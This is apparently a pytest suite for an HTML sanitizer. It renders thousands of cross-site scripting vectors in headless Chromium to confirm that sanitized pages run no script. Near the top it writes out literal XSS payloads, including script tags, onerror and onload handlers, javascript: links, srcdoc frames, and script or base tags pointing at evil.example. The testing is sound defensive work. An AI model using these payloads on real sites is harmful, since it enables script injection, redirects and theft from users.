"""No script runs: renderings of attacks, in a real browser, which says what ran and what was in the page.

The attacks are those of tests/fixtures/vectors.jsonl, written for this library, and eleven thousand known ones where
the second suite is. A part of them, always the same, takes two minutes; ``--all-vectors`` takes all.
"""

import multiprocessing
import os
import zlib
from collections.abc import Callable, Sequence
from concurrent.futures import Future, ProcessPoolExecutor
from functools import cache

import pytest
from markdown_it import MarkdownIt
from surfaces import DOCUMENTS, every_door, some_of_each_door

from allowed import for_browser
from browser import Answer, Page, find_chromium, look_at
from conftest import FIXTURES, SHARED, read_cases
from shortcodes.images.svg import svg_problem

pytestmark = pytest.mark.timeout(7_200)  # all vectors take half an hour

KNOWN = SHARED / "data" / "xss_vectors.jsonl"
OWN = FIXTURES / "vectors.jsonl"
TOGETHER = 8
"""Vectors on one page. If anything is found there, each is looked at alone."""
AHEAD = 24
"""Pages that are made before they are asked for."""

GOOD = '<p>fine <a href="https://x.example" title="a">z</a> <a href="foo:bar">q</a> <img src="/x.png" alt="a"></p>'
SEEN = {
    "script": "<script>alert(1)</script>",
    "quiet script": "<script>1</script>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "onerror": "<img src=x onerror=alert(1)>",
    "handler that nobody calls": "<p onpointerdown=1>a</p>",
    "javascript:": "<a href='javascript:alert(1)'>x</a>",
    "java&#9;script:": "<a href='java&#9;script:void 0'>x</a>",
    "javascript: in SVG": "<svg><a href='javascript:alert(1)'><text>x</text></a></svg>",
    "data:": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=/elsewhere'>",
    "location": "<script>location = 'http://evil.example/'</script>",
    "form": "<form action=/y><input></form>",
    "srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='data:text/html,x'></object>",
    "svg onload": "<svg onload=alert(1)></svg>",
    "toggle": "<details ontoggle=alert(1)><summary>x</summary></details>",
    "focus": "<button onfocus=alert(1)>x</button>",
    "dialog": "<script>confirm(1) || prompt(2)</script>",
    "write": "<script>document.write('x')</script>",
    "base": "<base href=//evil.example/>",
    "name of the window": "<script>window.name = 'x'</script>",
    "another page in its place": "<a href='javascript:\"x\"'>x</a>",
    "nothing in its place": "<script>document.documentElement.remove()</script>",
    "handler that stops": "<body onload='while (true) throw 1'>",
}
OFF = {
    "element": "<marquee>a</marquee>",
    "attribute": "<p lang=en>a</p>",
    "attribute of the page": "<body lang=en>",
    "value": "<p dir=rtl>a</p>",
    "address": "<img src='data:text/html,x' alt=''>",
    "addresses": "<img srcset='a 1x, javascript:alert(1) 2x'>",
    "namespace": "<svg><a></a></svg>",
    "comment": "<!-- a -->",
    "open": "<p>a",
    "closed twice": "<p>a</p></div>",
}
HANGS = "<script>for (;;);</script>"
# How many at least run in a browser, where nothing is done about them: of the known ones, and of our own.
RAW, STRINGS = 5_000, 300
OWN_RAW, OWN_STRINGS = 90, 105


@pytest.fixture(scope="session")
def browser() -> None:
    """Refuse to run where the watch does not see what it should, or sees what is not there."""
    if not find_chromium():
        if os.environ.get("CI"):
            raise RuntimeError("there is no Chromium; install it, or name it in $CHROMIUM")
        pytest.skip("there is no Chromium")
    pages = [GOOD, *SEEN.values(), *OFF.values()]
    good, *bad = look_at(len(pages), lambda n: Page([("lemmy", pages[n])]), for_browser())
    [hanging] = look_at(1, lambda _: Page([("lemmy", HANGS)]), for_browser(), seconds=2)
    seen, off = bad[: len(SEEN)], bad[len(SEEN) :]
    blind = [name for name, answer in zip(SEEN, seen, strict=True) if not answer.seen]
    blind += [name for name, answer in zip(OFF, off, strict=True) if not answer.off]
    if blind or not good.is_clean or not hanging.silent:
        raise RuntimeError(f"the watch is blind to {blind}; a good page: {good}; one that hangs: {hanging}")


@pytest.fixture(scope="session")
def thorough(request: pytest.FixtureRequest) -> bool:
    return bool(request.config.getoption("--all-vectors"))


@cache
def vectors(*, thorough: bool) -> tuple[str, ...]:
    """Return the vectors: all of them, or a third of our own and a tenth of the known ones."""
    known = [case["v"] for case in read_cases(KNOWN)] if KNOWN.exists() else []
    return tuple(dict.fromkeys([*own(), *known] if thorough else [*chosen(own(), 3), *chosen(known, 10)]))


@cache
def own() -> tuple[str, ...]:
    found = tuple(case["v"] for case in read_cases(OWN))
    assert len(found) >= 300
    return found


def chosen(every: Sequence[str], one_in: int) -> list[str]:
    """Return a part of the vectors, always the same."""
    return [vector for vector in every if zlib.crc32(vector.encode("utf-8", "surrogatepass")) % one_in == 0]


def test_nothing_runs(browser: None, thorough: bool) -> None:  # noqa: ARG001, FBT001  # fixtures
    """Every door, dialect and preset: nothing runs, nothing is off the allow-list, every page answers."""
    groups = together(vectors(thorough=thorough))
    doors = every_door if thorough else some_of_each_door
    answers = look_at_all([(doors, group) for group in groups])
    suspects = [(v,) for group, answer in zip(groups, answers, strict=True) if not answer.is_clean for v in group][:200]
    report(suspects, look_at_all([(doors, suspect) for suspect in suspects]))
    report(groups, answers)


def test_nothing_runs_in_pages(browser: None, thorough: bool) -> None:  # noqa: ARG001, FBT001  # fixtures
    """Threads, whole pages, and sheets of packs."""
    pages = [(document, group) for group in together(vectors(thorough=thorough)) for document in DOCUMENTS]
    report([group for _, group in pages], look_at_all(pages))


def together(every: Sequence[str]) -> list[Sequence[str]]:
    return [every[at : at + TOGETHER] for at in range(0, len(every), TOGETHER)]


def look_at_all(pages: Sequence[tuple[Callable[[Sequence[str]], Page], Sequence[str]]]) -> list[Answer]:
    """Look at pages which processes of their own make, some way ahead of the browser, and whose coverage is no news."""
    with pytest.MonkeyPatch.context() as patch:
        for name in [name for name in os.environ if name.startswith("COVERAGE_")]:
            patch.delenv(name)
        with ProcessPoolExecutor(2, multiprocessing.get_context("spawn")) as pool:
            ahead: dict[int, Future[Page]] = {}

            def page(number: int) -> Page:
                for next_ in range(number, min(number + AHEAD, len(pages))):
                    if next_ not in ahead:
                        make, group = pages[next_]
                        ahead[next_] = pool.submit(make, group)
                made = ahead[number].result()
                ahead.pop(number - AHEAD, None)  # one that is asked for again is made again
                return made

            return look_at(len(pages), page, for_browser()) if pages else []


def report(groups: Sequence[Sequence[str]], answers: Sequence[Answer]) -> None:
    """Fail with what was found, and where."""
    found = [(answer, group) for answer, group in zip(answers, groups, strict=True) if not answer.is_clean]
    assert not found, "\n".join(f"{answer} for {group!r}" for answer, group in found[:20])


def raw(vector: str) -> str:
    """Lets HTML through, as an engine does unless it is told not to."""
    return str(MarkdownIt("commonmark", {"html": True}).render(vector))


def strings(vector: str) -> str:
    """Puts an image's values between quotation marks, as many a plug-in does."""
    return f'<img src="{vector}" alt="{vector}">'


def without_care(careless: Callable[[str], str], some: Sequence[str]) -> list[Answer]:
    return look_at(len(some), lambda n: Page([("commonmark", careless(some[n]))]), for_browser())


@pytest.mark.parametrize(("careless", "known", "ours"), [(raw, RAW, OWN_RAW), (strings, STRINGS, OWN_STRINGS)])
def test_the_attacks_are_attacks(  # noqa: PLR0913, PLR0917  # fixtures, by name
    careless: Callable[[str], str],
    known: int,
    ours: int,
    browser: None,  # noqa: ARG001  # a fixture
    thorough: bool,  # noqa: FBT001  # likewise
    record_property: Callable[[str, object], None],
) -> None:
    """The same watch sees them run where nothing is done about them: on pages that do without our care."""
    every = [case["v"] for case in read_cases(KNOWN)] if KNOWN.exists() else []
    cases: list[tuple[str, Sequence[str], float]] = []
    if every:
        some: Sequence[str] = every if thorough else chosen(every, 40)
        cases.append(("known", some, known * len(some) / len(every) * (1 if thorough else 0.8)))  # a part varies
    if thorough or not every:  # each is a page of its own, and the known ones say it already
        cases.append(("own", own(), ours))
    for name, some, wanted in cases:
        answers = without_care(careless, some)
        ran, off = sum(bool(one.seen) for one in answers), sum(bool(one.off) for one in answers)
        either = sum(bool(one.seen or one.off) for one in answers)
        figures = f"{name}, {careless.__name__}: {ran} of {len(some)} ran, {off} are off the list, {either} either"
        record_property(name, figures)
        print(figures)  # noqa: T201  # shown with -s
        assert not any(one.silent for one in answers)
        assert ran >= wanted


# Drawings. Those that are refused run as documents, all but one here, so the refusal is worth something.

SVG_SCRIPTS = read_cases(FIXTURES / "images" / "svg_scripts.jsonl")
SVG_GOOD = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><style>rect {fill:red}</style><defs><radialGradient '
    'id="a"/></defs><rect width="9" height="9" fill="url(#a)"><animate attributeName="x" to="5" dur="1s"/></rect></svg>'
)
HARMLESS_HERE = {"style sheet of a program"}
"""It says what such an instruction looks like, without a program that would replace the watch with the page."""


def test_no_drawing_runs(browser: None) -> None:  # noqa: ARG001  # a fixture
    """A drawing that is taken runs nothing, opened as a page of its own; the others would."""
    taken = [
        SVG_GOOD,
        *(v for v in own() if v.startswith("<svg") and svg_problem(v.encode("utf-8", "replace")) is None),
    ]
    drawings = [*(case["svg"] for case in SVG_SCRIPTS), *taken]
    refused = [svg_problem(drawing.encode("utf-8", "replace")) is not None for drawing in drawings]
    assert refused == [True] * len(SVG_SCRIPTS) + [False] * len(taken)
    answers = look_at(len(drawings), lambda n: Page(drawing=drawings[n]), for_browser())
    for drawing, was_refused, answer in zip(drawings, refused, answers, strict=True):
        assert not answer.silent, drawing
        assert was_refused or not answer.seen, (drawing, answer)
    ran = {case["title"] for case, answer in zip(SVG_SCRIPTS, answers, strict=False) if answer.seen}
    assert ran >= {case["title"] for case in SVG_SCRIPTS} - HARMLESS_HERE
